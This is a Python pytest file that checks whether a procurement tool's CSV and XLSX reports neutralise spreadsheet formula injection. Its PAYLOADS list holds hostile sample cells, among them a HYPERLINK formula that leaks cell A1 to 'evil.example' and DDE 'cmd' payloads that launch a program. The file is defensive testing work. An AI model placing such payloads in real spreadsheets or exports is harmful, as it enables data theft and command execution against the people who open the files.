"""Formula injection (issue 9, defect 7): a member's text never becomes a live formula in a CSV or XLSX report,
and numbers stay numbers. The report is written by the real CLI from a PostgreSQL store."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from psycopg import sql

from progres.domain.values import siret_with_key
from progres.services.bootstrap import bootstrap, postgres_connect
from progres.services.reports.cells import csv_cell, neutral, xlsx_cell
from tests.conftest import CONVENTION

pytestmark = pytest.mark.postgres

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def plan_with_injected_texts(pg_settings, tmp_path):
    settings = pg_settings.model_copy(update={"views_schema": f"{pg_settings.postgres_schema}_views",
                                              "data_dir": tmp_path})
    app = bootstrap(settings)
    region = app.register_organisation(siret=siret_with_key("2000537670001"), name="Région", kind="collectivite").id
    laiterie = app.register_organisation(siret=siret_with_key("4190012340001"), name="=Laiterie", kind="supplier").id
    groupement = app.create_groupement if False else None
    groupement = app.constitute_groupement(code="GC-F", name="G", purpose="Achats", permanent=True,
                                           coordonnateur_id=region, signed_on="2021-06-01",
                                           convention=CONVENTION).id
    marche = app.notify_marche(groupement_id=groupement, code="M-F", object="BOF", cpv="15500000-3",
                               nature="fournitures", titulaire_ids=[laiterie], initial_amount="1000",
                               duration_months=24, notified_on="2022-01-01").id
    plan = app.draw_up_plan(marche_id=marche, title="Plan").id
    app.add_axis(plan_id=plan, key="egalim", title="-EGalim")
    for n, payload in enumerate(PAYLOADS):
        app.submit_proposal(plan_id=plan, author_id=laiterie, axis_key="egalim", kind="innovation", title=payload,
                            content="x", expected_impact=payload, expected_gain="-1200.50" if n == 0 else None,
                            submitted_on="2022-05-20")
    app.close()
    env = {**os.environ, "PROGRES_STORE": "postgres", "PROGRES_POSTGRES_SCHEMA": settings.postgres_schema,
           "PROGRES_VIEWS_SCHEMA": settings.views_schema, "PROGRES_DATA_DIR": str(tmp_path)}
    yield plan, env, tmp_path
    with postgres_connect(settings, autocommit=True) as connection:
        connection.execute(sql.SQL("DROP SCHEMA IF EXISTS {} CASCADE").format(sql.Identifier(settings.views_schema)))


def written(plan: str, env: dict[str, str], target) -> None:
    fmt = {"zip": "csv"}.get(target.suffix[1:], target.suffix[1:])
    result = subprocess.run([sys.executable, "-m", "progres.services.cli", "bilan", "report", "--plan", plan,
                             "--format", fmt, "--output", str(target)], env=env, capture_output=True, text=True,
                            timeout=300, check=False)
    assert result.returncode == 0, result.stdout + result.stderr


def test_no_cell_of_the_csv_or_xlsx_report_can_start_a_formula(plan_with_injected_texts):
    plan, env, directory = plan_with_injected_texts
    written(plan, env, directory / "bilan.zip")  # the CSV report: one file per table in a zip
    written(plan, env, directory / "bilan.xlsx")
    with zipfile.ZipFile(directory / "bilan.zip") as archive:
        files = [archive.read(name).decode("utf-8-sig") for name in archive.namelist()]
    cells = [c for text in files for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    texts = [c for c in cells if c]
    for payload in PAYLOADS:  # the domain trims texts: a leading tab or CR goes, the formula stays
        assert "'" + payload.strip() in texts, payload  # present, neutralised
    assert not [c for c in texts if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert [c for c in texts if c.startswith("-")] == ["-1200,50"]  # a negative amount is left a number

    book = load_workbook(directory / "bilan.xlsx")
    values = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value not in (None, "")]
    assert not [c for c in values if c.data_type == "f"]  # no formula cell at all
    strings = [c.value for c in values if isinstance(c.value, str)]
    for payload in PAYLOADS:
        assert "'" + payload.strip() in strings, payload
    assert not [s for s in strings if s.startswith(("=", "+", "-", "@", "\t", "\r"))]
    amounts = [c.value for c in values if c.data_type == "n"]
    assert -1200.5 in amounts  # a number, not a text


@pytest.mark.parametrize(("value", "as_csv", "as_xlsx"), [
    ("=1+1", "'=1+1", "'=1+1"), ("-3.5", "-3.5", Decimal("-3.5")), (-3.5, -3.5, -3.5), ("+33 1 23", "'+33 1 23",
     "'+33 1 23"), ("@x", "'@x", "'@x"), ("Lycée", "Lycée", "Lycée"), (None, "", ""), ("20005376700014",
     "20005376700014", Decimal("20005376700014")), ("-", "'-", "'-"), ("007", "007", "007"),
])
def test_cells_are_neutralised_and_numbers_kept(value, as_csv, as_xlsx):
    assert csv_cell(value) == as_csv
    assert xlsx_cell(value) == as_xlsx
    assert neutral("\ttab") == "'\ttab"
